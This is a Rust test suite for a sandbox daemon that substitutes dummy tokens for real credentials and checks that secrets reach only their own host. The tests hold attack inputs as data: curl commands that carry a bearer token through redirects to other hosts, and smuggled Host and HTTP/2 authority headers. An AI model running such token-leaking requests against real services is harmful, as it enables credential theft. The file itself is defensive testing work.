//! Which host a secret goes to: no other, whatever a client says that it is, and
//! none that cannot prove that it is the one.

use super::{Held, NOTHING, came, shoot, shoot_outside, token};
use crate::{
    Test,
    attacks::{Shot, arrived, attacker, marker, outside, under},
    tests,
    world::World,
};

pub(super) fn tests() -> Vec<Test> {
    tests![
        a_dummy_over_plain_http_is_refused,
        a_dummy_for_a_host_with_another_credential_is_refused,
        a_dummy_for_a_host_without_a_credential_arrives_as_the_dummy,
        a_redirect_takes_no_secret_to_another_host,
        a_request_for_another_host_inside_tls_is_refused,
        http_2_for_another_host_inside_tls_is_refused,
        tls_to_another_name_than_the_connection_is_refused,
        tls_that_names_no_host_is_for_the_host_of_the_connection,
        another_port_of_the_host_is_another_host,
    ]
}

const TAP: &[&str] = &["tap.example"];
const PLACE: &str = "Authorization: Bearer @TOKEN@\r\n";
const OURS: &str = "issuer=CN = sandboxd";
const THEIRS: &str = "issuer=CN = authority";

fn text(host: &str, target: &str) -> String {
    format!("GET {target} HTTP/1.1\r\nHost: {host}\r\n{PLACE}\r\n")
}

fn a_dummy_over_plain_http_is_refused(world: &World) {
    let daemon = world.daemon();
    let held = Held::by(world, daemon);
    let entry = held.entry(&["raw.example"], "");
    let policy = daemon.policy(&format!(
        "allow = [\"raw.example\", \"other.example\"]\n{entry}"
    ));
    let path = format!("/{}", marker());
    for host in ["raw.example", "other.example"] {
        let explicit = text(host, &format!("http://{host}{path}"));
        let shots = [
            Shot::at(host, 80, text(host, &path)),
            Shot::through(host, 80, text(host, &path)),
            Shot::proxy(explicit),
        ];
        let tried = shoot(daemon, &policy, &shots);
        let rule = format!("the dummy of `{}` over plain HTTP", held.name);
        tried.assert_refused(world, &held, &format!("{host}:80"), &rule);
    }
    assert!(!came(world, &path));
    let control = token();
    shoot_outside(
        &control,
        &[Shot::at("raw.example", 80, text("raw.example", &path))],
    );
    assert!(came(world, &control));
}

fn a_dummy_for_a_host_with_another_credential_is_refused(world: &World) {
    let daemon = world.daemon();
    let (one, other) = (Held::by(world, daemon), Held::by(world, daemon));
    let entry = one.entry(&["api.example"], "");
    let another = other.entry(TAP, "").replace("\"TOKEN\"", "\"ANOTHER\"");
    let policy = daemon.policy(&format!(
        "allow = [\"api.example\", \"tap.example\"]\n{entry}{another}"
    ));
    let mark = marker();
    let shots = [Shot::at("tap.example", 443, text("tap.example", &format!("/{mark}"))).in_tls()];
    let tried = shoot(daemon, &policy, &shots);
    let rule = format!("the dummy of `{}` towards another host", one.name);
    tried.assert_refused(world, &one, "tap.example:443", &rule);
    assert!(!came(world, &other.token));
    assert!(arrived(world, &mark).is_empty());
    shoot_outside(&token(), &shots);
    assert_eq!(arrived(world, &mark).len(), 1);
}

fn a_dummy_for_a_host_without_a_credential_arrives_as_the_dummy(world: &World) {
    let daemon = world.daemon();
    let held = Held::by(world, daemon);
    let entry = held.entry(&["api.example"], "");
    let policy = daemon.policy(&format!(
        "allow = [\"api.example\", \"tap.example\"]\n{entry}"
    ));
    let mark = marker();
    let request = text("tap.example", &format!("/{mark}"));
    let shots = [
        Shot::at("tap.example", 443, &request),
        Shot::through("tap.example", 443, &request),
    ]
    .map(Shot::in_tls);
    let tried = shoot(daemon, &policy, &shots);
    for got in &tried.got {
        assert_eq!(got.answers(), ["200"], "{tried:?}");
        assert_eq!(got.issuer, THEIRS);
    }
    tried.attack.assert_told(NOTHING);
    assert!(tried.attack.uses.is_empty());
    assert!(came(world, &tried.dummy) && !came(world, &held.token));
    let expected = request.replace("@TOKEN@", &tried.dummy);
    assert_eq!(
        arrived(world, &mark),
        [expected.as_bytes(), expected.as_bytes()]
    );
}

fn a_redirect_takes_no_secret_to_another_host(world: &World) {
    let daemon = world.daemon();
    let held = Held::by(world, daemon);
    let entry = held.entry(&["api.example"], "");
    let policy = daemon.policy(&format!(
        "allow = [\"api.example\", \"tap.example\", \"raw.example\"]\n{entry}"
    ));
    let (secure, plain) = (format!("/{}", marker()), format!("/{}", marker()));
    let get = |to: &str| {
        format!(
            "curl -sL --location-trusted --cacert ${{CURL_CA_BUNDLE:-/srv/tls/ca.pem}} -m 10 \
             -o /dev/null -w '%{{http_code}} ' -H \"Authorization: Bearer $TOKEN\" \
             'https://api.example/redirect?{to}'"
        )
    };
    let script = format!(
        "echo $TOKEN >&2; {}; {}",
        get(&format!("https://tap.example{secure}")),
        get(&format!("http://raw.example{plain}"))
    );
    let attack = under(daemon, &policy, &script);
    assert_eq!(attack.printed, "200 403 ", "{attack:?}");
    let rule = format!("the dummy of `{}` over plain HTTP", held.name);
    attack.assert_told(&[format!("request raw.example:80 ({rule})")]);
    let used = format!("{} GET api.example:443/redirect (api.example)", held.name);
    assert_eq!(attack.uses.keys().collect::<Vec<_>>(), [&used]);
    let came_there = arrived(world, &secure);
    let came_there = String::from_utf8_lossy(&came_there[0]);
    let dummy = attack.complaint.lines().next().unwrap();
    assert!(came_there.contains(dummy) && !came_there.contains(&held.token));
    assert!(arrived(world, &plain).is_empty());
    // A server that has the token itself can send a client with it to others.
    let token = &held.token;
    assert_eq!(
        outside(&format!(
            "export TOKEN={token} CURL_CA_BUNDLE=/srv/tls/ca.pem; {script}"
        )),
        "200 200 "
    );
    let came_there = arrived(world, &plain);
    assert!(String::from_utf8_lossy(&came_there[0]).contains(token));
}

fn a_request_for_another_host_inside_tls_is_refused(world: &World) {
    let daemon = world.daemon();
    let held = Held::by(world, daemon);
    let entry = held.entry(TAP, "");
    let policy = daemon.policy(&format!(
        "allow = [\"tap.example\", \"api.example\"]\n{entry}"
    ));
    let mark = marker();
    let path = format!("/{mark}");
    let shots = [
        text("api.example", &path),
        text("api.example:443", &path),
        // An absolute target says the host, not `Host` (RFC 9112, 3.2.2).
        text("api.example", &format!("https://api.example{path}")),
    ]
    .map(|it| Shot::at("tap.example", 443, it).in_tls());
    let tried = shoot(daemon, &policy, &shots);
    let rule = "a request on a connection to tap.example:443";
    tried.assert_refused(world, &held, "api.example:443", rule);
    let shots = [
        text("api.example", &format!("https://tap.example{path}")),
        text("tap.example", &format!("https://api.example{path}")),
        format!("GET {path} HTTP/1.1\r\nHost: tap.example\r\nHost: api.example\r\n{PLACE}\r\n"),
        format!("GET {path} HTTP/1.1\r\n{PLACE}\r\n"),
    ]
    .map(|it| Shot::at("tap.example", 443, it).in_tls());
    let tried = shoot(daemon, &policy, &shots);
    for got in &tried.got {
        assert_eq!(got.answers(), ["400"], "{tried:?}");
    }
    tried.attack.assert_told(NOTHING);
    tried.assert_kept(world, &held);
    assert!(arrived(world, &mark).is_empty());
    shoot_outside(&token(), &shots);
    assert_eq!(arrived(world, &mark).len(), shots.len());
}

fn http_2_for_another_host_inside_tls_is_refused(world: &World) {
    let daemon = world.daemon();
    let held = Held::by(world, daemon);
    let entry = held.entry(&["api2.example"], "");
    let policy = daemon.policy(&format!(
        "allow = [\"api2.example\", \"h2.example\"]\n{entry}"
    ));
    let mark = marker();
    let with = |pseudo: &str| {
        format!(r#"{{":path": "/{mark}", "authorization": "Bearer @TOKEN@", {pseudo}}}"#)
    };
    let tricks = [
        with(r#"":authority": "h2.example""#),
        with(r#"":authority": "h2.example", "host": "api2.example""#),
        with(r#"":authority": "api2.example", "host": "h2.example""#),
        with(r#"":authority": "api2.example", ":scheme": "http""#),
        with(r#"":authority": "api2.example@h2.example""#),
        with(r#"":authority": "api2.example:80""#),
        with(r#"":authority": "api2.example", "x-key": "@TOKEN@""#),
    ];
    let ask = |list: &str| {
        let program = attacker("http2.js", &["https://api2.example", list]);
        program.replace("/usr/bin/python3 -B", "node")
    };
    let list = format!("[{}]", tricks.join(","));
    let script = format!("echo $TOKEN >&2; {}", ask(&list));
    let attack = under(daemon, &policy, &script);
    let good = format!("[{}]", with(r#"":authority": "api2.example""#));
    assert!(!attack.printed.contains("200"), "{attack:?}");
    let dummy = attack.complaint.lines().next().unwrap();
    assert!(
        !came(world, dummy) && !came(world, &held.token),
        "{attack:?}"
    );
    assert!(!came(world, &mark), "{attack:?}");
    let rule = "a request on a connection to api2.example:443";
    let twice = format!("the dummy of `{}` more than once", held.name);
    let answers: Vec<_> = attack.printed.lines().map(str::trim_end).collect();
    let refused = [format!("403 {rule}"), format!("403 {twice}")];
    let [elsewhere, twice] = refused.each_ref().map(String::as_str);
    assert_eq!(
        answers,
        [elsewhere, "400", "400", "400", "400", elsewhere, twice],
        "{attack:?}"
    );
    attack.assert_told(&[
        format!("request api2.example:80 ({rule})"),
        format!("request h2.example:443 ({rule})"),
        format!(
            "request api2.example:443 (the dummy of `{}` more than once)",
            held.name
        ),
    ]);
    let attack = under(daemon, &policy, &ask(&good));
    assert_eq!(attack.printed, "200 \n", "{attack:?}");
    assert!(came(world, &held.token));
    let control = token();
    outside(&format!(
        "export NODE_EXTRA_CA_CERTS=/srv/tls/ca.pem TOKEN={control}; {}",
        ask(&list)
    ));
    assert!(came(world, &control));
}

fn tls_to_another_name_than_the_connection_is_refused(world: &World) {
    let daemon = world.daemon();
    let held = Held::by(world, daemon);
    let entry = held.entry(TAP, "");
    let policy = daemon.policy(&format!(
        "allow = [\"tap.example\", \"api.example\"]\n{entry}"
    ));
    let mark = marker();
    let request = text("tap.example", &format!("/{mark}"));
    // To the host with the name of another one, and to another one with its name.
    for (host, name) in [
        ("tap.example", "api.example"),
        ("api.example", "tap.example"),
    ] {
        let shots = [
            Shot::at(host, 443, &request),
            Shot::through(host, 443, &request),
        ]
        .map(|it| it.in_tls_to(name));
        let tried = shoot(daemon, &policy, &shots);
        for got in &tried.got {
            assert!(
                got.bytes.is_empty() && got.end.starts_with("tls "),
                "{tried:?}"
            );
        }
        let told = format!("connect {name}:443 (TLS for another name than {host})");
        tried.attack.assert_told(&[told]);
        tried.assert_kept(world, &held);
        assert!(!came(world, &mark));
    }
    let control = token();
    let shots = [Shot::at("tap.example", 443, &request).in_tls_to("api.example")];
    assert_eq!(shoot_outside(&control, &shots)[0].answers(), ["200"]);
    assert!(came(world, &mark));
}

fn tls_that_names_no_host_is_for_the_host_of_the_connection(world: &World) {
    let daemon = world.daemon();
    let held = Held::by(world, daemon);
    let entry = held.entry(TAP, "");
    let policy = daemon.policy(&format!(
        "allow = [\"tap.example\", \"api.example\"]\n{entry}"
    ));
    let mark = marker();
    let request = text("tap.example", &format!("/{mark}"));
    let shots = [
        Shot::at("tap.example", 443, &request),
        Shot::through("tap.example", 443, &request),
    ]
    .map(|it| it.in_tls_to(""));
    let tried = shoot(daemon, &policy, &shots);
    for got in &tried.got {
        assert_eq!(
            (got.answers(), got.issuer.as_str()),
            (vec!["200".into()], OURS),
            "{tried:?}"
        );
    }
    tried.attack.assert_told(NOTHING);
    for bytes in arrived(world, &mark) {
        let text = String::from_utf8_lossy(&bytes).to_lowercase();
        let token = held.token.to_lowercase();
        assert!(
            text.contains(&format!("authorization: bearer {token}\r\n")),
            "{text}"
        );
    }
    // Towards a host without a credential it is a dummy, whatever is said inside.
    let elsewhere = [Shot::at("api.example", 443, &request).in_tls_to("")];
    let tried = shoot(daemon, &policy, &elsewhere);
    assert_eq!(tried.got[0].issuer, THEIRS, "{tried:?}");
    assert!(tried.attack.uses.is_empty());
    let seen = world.records();
    let of_it = seen
        .iter()
        .filter(|it| it["kind"] == "http" && it["path"] == format!("/{mark}"));
    assert!(of_it.clone().count() == 1 && of_it.clone().all(|it| it["known"].is_null()));
}

fn another_port_of_the_host_is_another_host(world: &World) {
    let daemon = world.daemon();
    let held = Held::by(world, daemon);
    let entry = held.entry(TAP, "");
    let policy = daemon.policy(&format!(
        "allow = [\"tap.example\", \"tap.example:8443\"]\n{entry}"
    ));
    let mark = marker();
    let request = text("tap.example:8443", &format!("/{mark}"));
    let shots = [
        Shot::at("tap.example", 8443, &request),
        Shot::through("tap.example", 8443, &request),
    ]
    .map(Shot::in_tls);
    let tried = shoot(daemon, &policy, &shots);
    for got in &tried.got {
        assert_eq!(
            (got.answers(), got.issuer.as_str()),
            (vec!["200".into()], THEIRS),
            "{tried:?}"
        );
    }
    assert!(came(world, &tried.dummy) && !came(world, &held.token));
    assert!(tried.attack.uses.is_empty());
    // With the port in the entry it is for that one, and not for 443.
    let held = Held::by(world, daemon);
    let entry = held.entry(&["tap.example:8443"], "");
    let policy = daemon.policy(&format!(
        "allow = [\"tap.example\", \"tap.example:8443\"]\n{entry}"
    ));
    let other = Shot::at("tap.example", 443, text("tap.example", &format!("/{mark}"))).in_tls();
    let tried = shoot(daemon, &policy, &[shots[0].clone(), other]);
    let issuers: Vec<_> = tried.got.iter().map(|it| it.issuer.as_str()).collect();
    assert_eq!(issuers, [OURS, THEIRS], "{tried:?}");
    let used = format!(
        "{} GET tap.example:8443/{mark} (tap.example:8443)",
        held.name
    );
    assert_eq!(tried.attack.uses.keys().collect::<Vec<_>>(), [&used]);
    assert!(came(world, &held.token) && came(world, &tried.dummy));
}
